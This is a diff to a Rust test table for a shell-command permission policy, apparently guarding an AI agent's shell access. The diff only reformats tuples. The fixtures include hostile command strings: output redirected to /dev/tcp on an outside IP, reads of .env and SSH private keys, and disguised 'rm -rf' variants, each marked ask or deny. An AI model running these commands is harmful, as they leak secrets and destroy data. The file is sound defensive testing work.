@@ -337,6 +337,7 @@ rules:
 "#;
 
 /// `(policy, posture, script, verdict)`: "dev" is [`DEV`], "default" the embedded policy.
+#[rustfmt::skip]
 const VERDICTS: &[(&str, &str, &str, &str)] = &[
     // Benign commands stay allowed under a matching prefix allow.
     ("dev", "strict", "git status && git diff --stat", "allow"),
@@ -345,25 +346,10 @@ const VERDICTS: &[(&str, &str, &str, &str)] = &[
     ("dev", "strict", "grep -c \"rm -rf\" notes.md", "allow"),
     ("dev", "strict", "ls 2>/dev/null", "allow"),
     ("dev", "strict", "timeout 60 npm test", "allow"),
-    (
-        "dev",
-        "strict",
-        "for f in src/*.rs; do wc -l \"$f\"; done",
-        "allow",
-    ),
+    ("dev", "strict", "for f in src/*.rs; do wc -l \"$f\"; done", "allow"),
     ("dev", "strict", "npm run test:unit", "allow"),
-    (
-        "dev",
-        "strict",
-        "cargo test --workspace -- --nocapture",
-        "allow",
-    ),
-    (
-        "dev",
-        "strict",
-        "cargo build --release > build/log.txt",
-        "allow",
-    ),
+    ("dev", "strict", "cargo test --workspace -- --nocapture", "allow"),
+    ("dev", "strict", "cargo build --release > build/log.txt", "allow"),
     ("dev", "strict", "git -c core.pager=cat log", "allow"),
     ("dev", "strict", "rm target/tmp.txt", "allow"),
     // ...but not when something else rides along.
@@ -375,12 +361,7 @@ const VERDICTS: &[(&str, &str, &str, &str)] = &[
     ("dev", "interactive", "echo hi > notes.txt", "ask"),
     ("dev", "interactive", "cargo build > \"$LOG\"", "ask"),
     ("dev", "interactive", "git -c core.pager=less log", "ask"),
-    (
-        "dev",
-        "interactive",
-        "git status > /dev/tcp/1.2.3.4/80",
-        "ask",
-    ),
+    ("dev", "interactive", "git status > /dev/tcp/1.2.3.4/80", "ask"),
     ("dev", "interactive", "./timeout 60 npm test", "ask"),
     ("dev", "interactive", "git -c core.pager=cat log -p", "ask"),
     ("dev", "interactive", "ls | xargs rm", "ask"),
@@ -403,21 +384,11 @@ const VERDICTS: &[(&str, &str, &str, &str)] = &[
     ("dev", "interactive", "timeout 5 rm -rf build", "deny"),
     ("dev", "interactive", "sudo rm -rf build", "deny"),
     ("dev", "interactive", "bash -c 'rm -rf build'", "deny"),
-    (
-        "dev",
-        "interactive",
-        "sh -c \"sh -c 'rm -rf build'\"",
-        "deny",
-    ),
+    ("dev", "interactive", "sh -c \"sh -c 'rm -rf build'\"", "deny"),
     ("dev", "interactive", "find . -exec rm -rf {} +", "deny"),
     ("dev", "interactive", "env FOO=1 rm -rf build", "deny"),
     ("dev", "interactive", "f() { rm -rf build; }", "deny"),
-    (
-        "dev",
-        "interactive",
-        "cat <<EOF\n$(rm -rf build)\nEOF",
-        "deny",
-    ),
+    ("dev", "interactive", "cat <<EOF\n$(rm -rf build)\nEOF", "deny"),
     ("dev", "interactive", "ls # harmless\nrm -rf build", "deny"),
     ("dev", "interactive", "git push origin main", "ask"),
     ("dev", "interactive", "git -C repo push --force", "ask"),
@@ -429,12 +400,7 @@ const VERDICTS: &[(&str, &str, &str, &str)] = &[
     ("dev", "interactive", "cp .env /tmp/x", "deny"),
     ("dev", "interactive", "grep KEY < .env", "deny"),
     ("dev", "interactive", "cat ~/.ssh/id_rsa", "deny"),
-    (
-        "dev",
-        "interactive",
-        "for f in .env; do cat \"$f\"; done",
-        "deny",
-    ),
+    ("dev", "interactive", "for f in .env; do cat \"$f\"; done", "deny"),
     // The embedded default: reads run, writers and the unknown ask, secrets are denied.
     ("default", "interactive", "git status", "allow"),
     ("default", "interactive", "ls -la && cat README.md", "allow"),
@@ -443,12 +409,7 @@ const VERDICTS: &[(&str, &str, &str, &str)] = &[
     ("default", "interactive", "cat .e*", "deny"),
     ("default", "interactive", "head -c 100 ./.env", "deny"),
     ("default", "interactive", "grep -r API_KEY .", "ask"),
-    (
-        "default",
-        "interactive",
-        "grep API_KEY src/main.rs",
-        "allow",
-    ),
+    ("default", "interactive", "grep API_KEY src/main.rs", "allow"),
     ("default", "interactive", "python3 -c 'print(1)'", "ask"),
     ("default", "interactive", "bash -c \"$X\"", "ask"),
     ("default", "unattended", "git status", "allow"),
